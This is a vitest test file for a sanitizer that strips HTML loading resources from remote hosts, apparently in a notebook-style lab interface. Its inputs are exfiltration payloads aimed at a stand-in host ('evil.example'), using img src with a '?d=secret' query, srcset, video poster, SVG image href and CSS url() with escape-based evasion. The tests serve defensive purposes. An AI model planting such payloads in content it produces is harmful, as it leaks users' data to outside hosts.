import { expect, test } from 'vitest';
import { quiet, withoutRemote } from '../../src/lab/pictures';

const BASE = 'http://localhost:8888/lab';

test.each([
  '<img src="https://evil.example/?d=secret" alt="chart">',
  '<img src="//evil.example/x" alt="chart">',
  '<img src=" https://evil.example/x" alt="chart">',
  '<img src="ht\ntps://evil.example/x" alt="chart">',
  '<img src="a.png" srcset="b.png 1x, https://evil.example/x 2x" alt="chart">',
  '<p><video poster="http://evil.example/x">chart</video></p>',
  '<picture><source srcset="https://evil.example/x">chart</picture>',
  '<svg><image href="https://evil.example/x"></image></svg>chart',
  '<p style="background:url(https://evil.example/x)">chart</p>',
  '<p style="background:u\\72l(https://evil.example/x)">chart</p>',
  '<style>p { background: url(https://evil.example/x) }</style><p>chart</p>',
  '<table background="https://evil.example/x"><tr><td>chart</td></tr></table>'
])('nothing is fetched from elsewhere: %s', html => {
  const left = withoutRemote(html, BASE);
  expect(left).not.toContain('evil.example');
  expect(left).toContain('chart');
});

test('what is at home, in the text or only behind a click stays', () => {
  const html =
    '<p style="color: red"><a href="https://elsewhere.example/">there</a> <img src="files/a.png"> <img src="data:image/png;base64,AA=="></p>';
  expect(withoutRemote(html, BASE)).toBe(html);
});

test('the sanitizer of the house still has its say', () => {
  const seen: string[] = [];
  const ours = quiet({ sanitize: dirty => (seen.push(dirty), dirty.toUpperCase()) });
  expect(ours.sanitize('<img src="https://evil.example/x" alt="a">b')).toBe('AB');
  expect(seen).toEqual(['ab']);
});
